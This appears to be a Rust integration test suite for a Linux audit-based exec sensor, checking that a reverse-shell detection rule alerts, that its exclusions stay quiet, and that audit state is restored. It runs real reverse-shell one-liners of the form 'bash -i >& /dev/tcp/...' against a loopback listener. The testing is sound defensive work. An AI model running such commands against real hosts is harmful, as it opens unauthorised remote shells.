//! `execsentry run` against the real kernel audit subsystem, as root: real reverse shells against
//! a loopback listener, the sensor as the audit daemon (netlink) and beside a real `auditd`
//! (multicast), an exec storm with every exec received or counted as lost, and the shutdown on
//! SIGTERM/SIGINT (drain, flush, restore, exit 0).
//!
//! Each test holds the machine-wide audit lock for its whole run, records the audit status and
//! rule list first and asserts they are the same afterwards; guards stop the processes it started
//! (by pid) and put the audit state back even when an assertion fails. Where live audit is not
//! possible (not root, no audit, a locked configuration, another daemon) a test prints why and
//! returns, unless `EXECSENTRY_REQUIRE_LIVE=1` (CI), where that is a failure. Only loopback is
//! ever connected to.

#![cfg(target_os = "linux")]

mod cli_support;
mod live_support;

use std::collections::HashSet;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;

use cli_support::TempDir;
use live_support::*;

/// Elastic's "Potential Reverse Shell Activity via Terminal", built in.
const RULE_ID: &str = "a1a0375f-22c2-48c0-81a4-7c2d11cc6856";

// ---------------------------------------------------------------------------------------------
// Alerts

fn s<'a>(v: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(v, |v, k| &v[k])
}

/// The one alert whose command line is `shell -c cmd`, checked field by field.
fn assert_reverse_shell_alert(alerts: &[Value], key: &str, shell: &str, name: &str, cmd: &str) {
    let args = [shell, "-c", cmd];
    let found: Vec<&Value> = alerts
        .iter()
        .filter(|a| s(a, "process.args") == &serde_json::json!(args))
        .collect();
    assert_eq!(
        found.len(),
        1,
        "one alert for {shell} -c {cmd:?}; alerts: {alerts:#?}"
    );
    let a = found[0];
    assert_eq!(s(a, "event.kind"), "alert");
    assert_eq!(s(a, "rule.id"), RULE_ID);
    assert_eq!(s(a, "event.type"), &serde_json::json!(["start"]));
    assert_eq!(s(a, "process.name"), name, "basename of exe");
    assert_eq!(
        s(a, "process.executable"),
        format!("/usr/bin/{name}").as_str()
    );
    assert_eq!(s(a, "process.command_line"), args.join(" ").as_str());
    assert_eq!(s(a, "process.parent.name"), "bash");
    assert_eq!(s(a, "process.parent.executable"), "/usr/bin/bash");
    assert_eq!(
        s(a, "process.parent.args"),
        &serde_json::json!(["bash", "-c", PARENT_SCRIPT])
    );
    assert_eq!(
        s(a, "process.parent.command_line"),
        format!("bash -c {PARENT_SCRIPT}").as_str()
    );
    assert!(s(a, "process.parent.pid").is_u64());
    assert_eq!(s(a, "process.parent.user.id"), "0");
    assert_eq!(s(a, "user.id"), "0", "ids are strings");
    assert_eq!(s(a, "user.name"), "root");
    assert_eq!(s(a, "process.user.id"), "0");
    assert_eq!(
        s(a, "tags"),
        &serde_json::json!([key]),
        "the sensor's audit key"
    );
}

fn alerts_mentioning<'a>(alerts: &'a [Value], needle: &str) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| {
            s(a, "process.command_line")
                .as_str()
                .is_some_and(|c| c.contains(needle))
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// The tests

const SHELL_TIMEOUT: Duration = Duration::from_secs(20);

/// The sensor as the audit daemon: real reverse shells (bash, sh, dash; TCP and UDP) alert with
/// their parent and user; the rule's exclusions and benign shells do not, though the sensor saw
/// them; SIGTERM drains, flushes, restores the audit state and exits 0.
#[test]
fn netlink_reverse_shells_alert_and_exclusions_do_not() {
    let test = "netlink_reverse_shells_alert_and_exclusions_do_not";
    let Some(mut audit) = AuditSession::begin(test, true) else {
        return;
    };
    let dir = TempDir::new("live-netlink");
    let attacker = Attacker::start();
    let (sensor, alerts_path, events_path) =
        Sensor::run_into(&dir, &audit.key, &["--source", "netlink"]);
    assert!(sensor.ready.contains("source netlink"), "{}", sensor.ready);
    let running = audit.state();
    assert_eq!(running.pid, sensor.pid, "the sensor is the audit daemon");
    assert_eq!(running.enabled, 1);
    assert_eq!(
        audit.rules_with_our_key(),
        2,
        "execve+execveat, b64 and b32"
    );

    let (p6, u6, p4) = (attacker.tcp6, attacker.udp6, attacker.tcp4);
    let nonce = format!("{}-{}", std::process::id(), p6);
    let reverse = [
        ("bash", "bash", format!("bash -i >& /dev/tcp/::1/{p6} 0>&1")),
        ("sh", "dash", format!("sh -i >& /dev/tcp/::1/{p6} 0>&1")),
        ("dash", "dash", format!("dash -i >& /dev/tcp/::1/{p6} 0>&1")),
        ("bash", "bash", format!("bash -i >& /dev/udp/::1/{u6} 0>&1")),
    ];
    let quiet = [
        ("bash", format!("bash -i >& /dev/tcp/127.0.0.1/{p4} 0>&1")),
        ("bash", format!("bash -i >& /dev/tcp/localhost/{p4} 0>&1")),
        ("bash", format!("echo hi {nonce}")),
    ];
    for (shell, cmd) in reverse
        .iter()
        .map(|(shell, _, cmd)| (shell, cmd))
        .chain(quiet.iter().map(|(shell, cmd)| (shell, cmd)))
    {
        assert!(
            run_shell(shell, cmd, SHELL_TIMEOUT).is_some(),
            "`{shell} -c {cmd}` did not end within {SHELL_TIMEOUT:?} (the listener tells it to exit)"
        );
    }
    // Everything above has been evaluated once this later exec is an event.
    let sync = format!("es-sync-{nonce}");
    run_marker(&sync);
    Tail::new(&events_path).wait_for(&sync, Duration::from_secs(30));

    let (status, stderr) = sensor.stop(libc::SIGTERM);
    audit.assert_restored();
    let counters = assert_clean_stop(status, &stderr, &alerts_path, &events_path);
    assert!(counters["events"] >= (reverse.len() + quiet.len()) as u64 * 2);

    let alerts = lines(&alerts_path);
    for (shell, name, cmd) in &reverse {
        assert_reverse_shell_alert(&alerts, &audit.key, shell, name, cmd);
    }
    let events = lines(&events_path);
    for (_, cmd) in &quiet {
        assert!(
            alerts_mentioning(&alerts, cmd).is_empty(),
            "no alert for {cmd:?}"
        );
        let seen = events
            .iter()
            .filter(|e| s(e, "process.args") == &serde_json::json!(["bash", "-c", cmd]))
            .count();
        assert_eq!(seen, 1, "the sensor saw `bash -c {cmd}` as an event");
    }
    let reached = attacker.finish();
    assert_eq!(
        (reached.get("tcp6"), reached.get("udp6")),
        (Some(&1), Some(&1)),
        "bash reached [::1] over TCP and UDP (dash has no /dev/tcp): {reached:?}"
    );
    assert!(
        reached.get("tcp4").is_some_and(|&n| n >= 1),
        "the excluded shells really connected to 127.0.0.1: {reached:?}"
    );
}

/// The sensor beside a real auditd: multicast, read-only, same alert; auditd stays the daemon
/// and logs the same exec; both stopped, the audit state is back (pid 0, rules, enabled).
#[test]
fn multicast_beside_a_real_auditd() {
    let test = "multicast_beside_a_real_auditd";
    let Some(binary) = auditd_binary() else {
        return skip(test, "auditd is not installed (apt-get install auditd)");
    };
    let Some(mut audit) = AuditSession::begin(test, true) else {
        return;
    };
    let auditd = Auditd::start(&binary, &mut audit.control);
    let dir = TempDir::new("live-multicast");
    let attacker = Attacker::start();
    let (sensor, alerts_path, events_path) =
        Sensor::run_into(&dir, &audit.key, &["--source", "multicast"]);
    assert!(
        sensor.ready.contains("source multicast"),
        "{}",
        sensor.ready
    );
    let running = audit.state();
    assert_eq!(running.pid, auditd.pid, "auditd stays the audit daemon");
    assert_eq!(running.enabled, 1);
    assert_eq!(audit.rules_with_our_key(), 2);

    let cmd = format!("bash -i >& /dev/tcp/::1/{} 0>&1", attacker.tcp6);
    assert!(run_shell("bash", &cmd, SHELL_TIMEOUT).is_some());
    let sync = format!("es-sync-{}-{}", std::process::id(), attacker.tcp6);
    run_marker(&sync);
    Tail::new(&events_path).wait_for(&sync, Duration::from_secs(30));

    let (status, stderr) = sensor.stop(libc::SIGTERM);
    assert_clean_stop(status, &stderr, &alerts_path, &events_path);
    let log = auditd.stop();
    audit.assert_restored();

    assert_reverse_shell_alert(&lines(&alerts_path), &audit.key, "bash", "bash", &cmd);
    // auditd received the same exec: its EXECVE record, the command hex-encoded (it has spaces).
    let hex: String = cmd.bytes().map(|b| format!("{b:02X}")).collect();
    assert!(
        memchr::memmem::find(&log, format!("a2={hex}").as_bytes()).is_some(),
        "auditd logged the reverse shell's EXECVE record"
    );
    assert_eq!(attacker.finish().get("tcp6"), Some(&1));
}

/// ≥ 20,000 execs as fast as two threads can spawn them: each is either an event or counted as
/// lost (serial gaps, kernel lost, queue drops, incomplete events); SIGINT drains every event to
/// the file.
#[test]
fn exec_storm_is_received_or_counted() {
    let test = "exec_storm_is_received_or_counted";
    let Some(mut audit) = AuditSession::begin(test, false) else {
        return;
    };
    const THREADS: usize = 2;
    const PER_THREAD: usize = 10_000;
    let generated = THREADS * PER_THREAD;
    let dir = TempDir::new("live-storm");
    let (sensor, alerts_path, events_path) = Sensor::run_into(&dir, &audit.key, &[]);
    let mode = if audit.before.pid == 0 {
        "netlink"
    } else {
        "multicast"
    };
    assert!(
        sensor.ready.contains(&format!("source {mode}")),
        "auto: {}",
        sensor.ready
    );

    let marker = format!("es-storm-{}-", std::process::id());
    let started = Instant::now();
    let spawners: Vec<_> = (0..THREADS)
        .map(|t| {
            let marker = marker.clone();
            thread::spawn(move || {
                for i in 0..PER_THREAD {
                    let status = Command::new("/bin/true")
                        .arg(format!("{marker}{t}-{i}"))
                        .stdin(Stdio::null())
                        .stdout(Stdio::null())
                        .stderr(Stdio::null())
                        .status()
                        .expect("spawn /bin/true");
                    assert!(status.success());
                }
            })
        })
        .collect();
    for s in spawners {
        s.join().unwrap();
    }
    let spawn_time = started.elapsed();

    // Let the events arrive: until all are there, or none came for 5 s.
    let mut tail = Tail::new(&events_path);
    let mut received_so_far = 0usize;
    let mut last_growth = Instant::now();
    while received_so_far < generated && last_growth.elapsed() < Duration::from_secs(5) {
        let n = tail
            .read()
            .iter()
            .filter(|l| memchr::memmem::find(l, marker.as_bytes()).is_some())
            .count();
        if n > 0 {
            received_so_far += n;
            last_growth = Instant::now();
        }
        thread::sleep(Duration::from_millis(200));
    }

    let (status, stderr) = sensor.stop(libc::SIGINT);
    audit.assert_restored();
    let c = assert_clean_stop(status, &stderr, &alerts_path, &events_path);

    let mut received = HashSet::new();
    let data = std::fs::read(&events_path).unwrap();
    for line in data.split(|&b| b == b'\n') {
        if memchr::memmem::find(line, marker.as_bytes()).is_none() {
            continue;
        }
        let e: Value = serde_json::from_slice(line).unwrap();
        let arg = s(&e, "process.args")[1].as_str().unwrap().to_owned();
        assert_eq!(s(&e, "process.name"), "true");
        assert!(received.insert(arg.clone()), "{arg} seen twice");
    }
    let lost = c["serial_gaps"] + c["kernel_lost"] + c["channel_drops"] + c["incomplete"];
    eprintln!(
        "exec storm ({mode}): {generated} execs in {:.1} s ({:.0}/s); received {}; \
         serial_gaps={} kernel_lost={} channel_drops={} incomplete={} enobufs={}",
        spawn_time.as_secs_f64(),
        generated as f64 / spawn_time.as_secs_f64(),
        received.len(),
        c["serial_gaps"],
        c["kernel_lost"],
        c["channel_drops"],
        c["incomplete"],
        c["enobufs"],
    );
    assert!(received.len() <= generated);
    if lost == 0 {
        assert_eq!(
            received.len(),
            generated,
            "nothing counted as lost, so every exec was received"
        );
    } else {
        assert!(
            received.len() as u64 + lost >= generated as u64,
            "{} execs neither received nor counted as lost",
            generated as u64 - received.len() as u64 - lost.min(generated as u64)
        );
    }
}

/// A sensor killed with SIGKILL cannot unregister or delete its rules. The next `run` (auto)
/// takes over as the audit daemon — whether or not the kernel has noticed the dead pid yet (it
/// does at its next failed send, so usually at once on a busy host) it is replaced, not run
/// beside in multicast — and replaces the stale rules instead of adding a second set.
#[test]
fn killed_sensor_is_replaced_on_restart() {
    let test = "killed_sensor_is_replaced_on_restart";
    let Some(mut audit) = AuditSession::begin(test, true) else {
        return;
    };
    let key = audit.key.clone();
    let args = ["run", "--audit-key", &key, "--stats-interval", "3600"];
    let first = Sensor::start(&args);
    assert!(first.ready.contains("source netlink"), "{}", first.ready);
    let first_pid = first.pid;
    let (status, _) = first.stop(libc::SIGKILL);
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(libc::SIGKILL)
    );
    let left = audit.state();
    assert!(
        left.pid == first_pid || left.pid == 0,
        "the dead sensor, or nobody: {}",
        left.pid
    );
    assert_eq!(
        audit.rules_with_our_key(),
        2,
        "a killed sensor leaves its rules"
    );
    eprintln!(
        "{test}: after SIGKILL the kernel {} the dead daemon",
        if left.pid == 0 {
            "had already dropped"
        } else {
            "still listed"
        }
    );

    let second = Sensor::start(&args);
    assert!(
        second.ready.contains("source netlink"),
        "auto replaces a dead daemon: {}",
        second.ready
    );
    assert_eq!(audit.state().pid, second.pid);
    assert_eq!(
        audit.rules_with_our_key(),
        2,
        "stale rules replaced, not doubled"
    );
    let (status, stderr) = second.stop(libc::SIGTERM);
    assert!(status.success(), "{stderr}");
    assert!(
        stderr.contains("removing a stale execsentry audit rule"),
        "{stderr}"
    );
    let after = audit.state();
    assert_eq!(after.pid, 0, "unregistered");
    assert_eq!(after.rules, audit.before.rules, "only others' rules remain");
    // What only the killed sensor could have put back (it found them so, the second one did
    // not): enabled and the backlog settings. The session restores those.
    audit.restore();
    audit.assert_restored();
}
